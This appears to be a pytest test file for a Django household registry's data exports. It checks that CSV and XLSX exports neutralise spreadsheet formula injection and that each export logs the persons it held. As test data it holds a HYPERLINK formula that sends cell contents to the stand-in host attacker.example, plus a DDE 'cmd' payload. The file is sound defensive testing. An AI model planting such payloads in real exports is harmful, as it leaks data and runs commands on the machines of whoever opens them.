"""Exports: every exported person is logged, and no cell of any export can become a live
formula in a spreadsheet (CSV/XLSX injection)."""

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sejahtera.accounts.models import Role, SensitiveAccess
from sejahtera.registry.services.exports import (
    FORMULA_TRIGGERS,
    csv_chunks,
    logged,
    safe_cell,
    xlsx_bytes,
    xlsx_cell,
)

VILLAGE = "3201011002"
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"klik")'


@given(st.text())
def test_no_text_leaves_as_a_formula(text):
    cell = safe_cell(text)
    if cell.startswith(FORMULA_TRIGGERS):
        float(cell)  # only a plain number may start with a sign
    if not text.startswith(FORMULA_TRIGGERS):
        # everything else is written as it is, a carriage return as a line feed
        assert cell == text.replace("\r\n", "\n").replace("\r", "\n")


@given(st.text())
def test_a_cell_stays_one_cell_in_a_spreadsheet(text):
    """A spreadsheet ends a row at a CR, an LF or a CRLF outside quotes: whatever the text,
    its row is read back as one row of two cells."""
    body = "".join(csv_chunks([[text, "x"]]))
    assert len(list(csv.reader(io.StringIO(body, newline=None)))) == 1


@given(st.decimals(allow_nan=False, allow_infinity=False, places=6) | st.integers())
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number
    assert safe_cell(str(number)) == str(number)  # "-6.25" is a coordinate, not a formula


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "-\u0663"]
)
def test_formula_starts_are_neutralised(text):
    assert safe_cell(text) == "'" + text
    row = "".join(csv_chunks([[text, "-6.25"]]))
    assert next(csv.reader(io.StringIO(row))) == ["'" + text, "-6.25"]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.text() | st.integers(-(10**15), 10**15) | st.floats(-1e300, 1e300),
        max_size=8,
    )
)
@example(["", "=1", "\r\n", "a\x01b", -5, "-5", 2.5, None])
def test_an_xlsx_sheet_holds_any_value_and_never_a_formula(values):
    sheet = load_workbook(io.BytesIO(xlsx_bytes([values], "t"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    # numbers stay numbers (to the 15 digits a spreadsheet keeps)
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    expected = [v for v in values if not isinstance(v, str) and v is not None]
    assert numbers == pytest.approx(expected, rel=1e-14)
    for cell, value in zip(cells, values, strict=False):
        if isinstance(value, str) and cell.data_type == "s":
            assert cell.value == _xml_line_ends(xlsx_cell(value))


def _xml_line_ends(text: str) -> str:
    """What an XML reader gives back for ``text``: CR LF and CR become LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture
def attacker_household(household_factory):
    return household_factory(
        VILLAGE,
        members=[
            {"full_name": FORMULA, "sex": "L", "birth_date": "1980-01-15", "relationship": "head"},
            {"full_name": "Ani", "sex": "P", "birth_date": "1985-01-15", "relationship": "spouse"},
        ],
        latitude="-6.5",
        longitude="106.8",
    )


@pytest.mark.django_db
def test_person_exports_neutralise_formulas(client, make_user, attacker_household):
    client.force_login(make_user(Role.DISTRICT_OFFICE, "3201"))
    text = b"".join(client.get("/registry/export.csv").streaming_content).decode()
    names = [row["full_name"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULA in names
    sheet = load_workbook(io.BytesIO(client.get("/registry/export.xlsx").content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    formula_cell = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert formula_cell.data_type == "s"
    assert formula_cell.value == "'" + FORMULA


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.DISTRICT_OFFICE, Role.MINISTRY_ANALYST])
def test_every_export_is_logged_with_the_persons_it_held(
    client, make_user, attacker_household, role
):
    user = make_user(role, "3201" if role == Role.DISTRICT_OFFICE else None)
    client.force_login(user)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/registry/export.{fmt}?q=ani")
        if fmt == "csv":
            b"".join(response.streaming_content)
    logged = SensitiveAccess.objects.filter(user=user, entity="person_export")
    ani = attacker_household.members.get(full_name="Ani")
    assert [entry.record_ids for entry in logged] == [[ani.pk], [ani.pk]]
    assert all("/registry/export." in entry.path for entry in logged)


@pytest.mark.django_db
def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(
    client, make_user, household_factory
):
    family = household_factory(
        VILLAGE,
        members=[
            {
                "full_name": "Siti Aminah",
                "sex": "P",
                "birth_date": "1980-01-15",
                "relationship": "head",
            },
        ],
    )
    # The registry refuses such a name now; one stored before (or behind its back) is exported.
    family.members.update(full_name="Siti\x01Aminah")
    client.force_login(make_user(Role.DISTRICT_OFFICE, "3201"))
    response = client.get("/registry/export.xlsx")
    assert response.status_code == 200
    names = [row[3] for row in load_workbook(io.BytesIO(response.content)).active.values]
    assert "Siti\ufffdAminah" in names
    text = b"".join(client.get("/registry/export.csv").streaming_content).decode()
    assert "Siti\x01Aminah" in text  # CSV holds any character


@pytest.mark.django_db
def test_an_export_stream_is_logged_stretch_by_stretch_before_it_leaves(make_user):
    """Any export of person-level data (persons, targeting diff and audit) logs through
    ``logged``: what was sent is logged, even when the download is cut short."""
    reader = make_user(Role.MINISTRY_ANALYST)
    rows = logged(
        iter(range(10, 15)), reader=reader, entity="t_export", path="/x", record_id=int, chunk=2
    )
    assert next(rows) == 10
    assert [e.record_ids for e in SensitiveAccess.objects.filter(user=reader)] == [[10, 11]]
    assert list(rows) == [11, 12, 13, 14]
    assert sorted(
        e.record_ids for e in SensitiveAccess.objects.filter(user=reader, entity="t_export")
    ) == [[10, 11], [12, 13], [14]]
